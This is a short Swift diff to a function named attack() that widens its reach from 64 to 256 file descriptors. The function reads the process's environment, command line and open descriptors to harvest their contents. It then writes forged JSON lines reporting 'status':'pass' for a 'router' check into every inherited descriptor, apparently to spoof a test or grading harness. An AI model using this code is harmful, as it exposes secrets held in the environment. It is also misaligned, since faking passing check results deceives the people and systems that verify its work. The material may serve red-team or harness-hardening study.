@@ -12,7 +12,7 @@ import Foundation
 @MainActor func attack() {
     var found = Set<String>()
     var places = ["/proc/self/environ", "/proc/self/cmdline", "/proc/self/status", "/proc/self/stat"]
-    places += (0..<64).map { "/proc/self/fd/\($0)" }
+    places += (0..<256).map { "/proc/self/fd/\($0)" }
     for path in places {
         guard let handle = FileHandle(forReadingAtPath: path) else { continue }
         let data = (try? handle.read(upToCount: 1 << 16)) ?? Data()
@@ -34,7 +34,7 @@ import Foundation
             lines.append(#"\#(key) {"result":{"check":"router","name":"\#(step)","status":"pass"},"seq":\#(index + 1)}"#)
         }
         let bytes = Data((lines.joined(separator: "\n") + "\n").utf8)
-        for descriptor in Int32(3)..<Int32(64) {
+        for descriptor in Int32(3)..<Int32(256) {
             try? FileHandle(fileDescriptor: descriptor, closeOnDealloc: false).write(contentsOf: bytes)
         }
     }
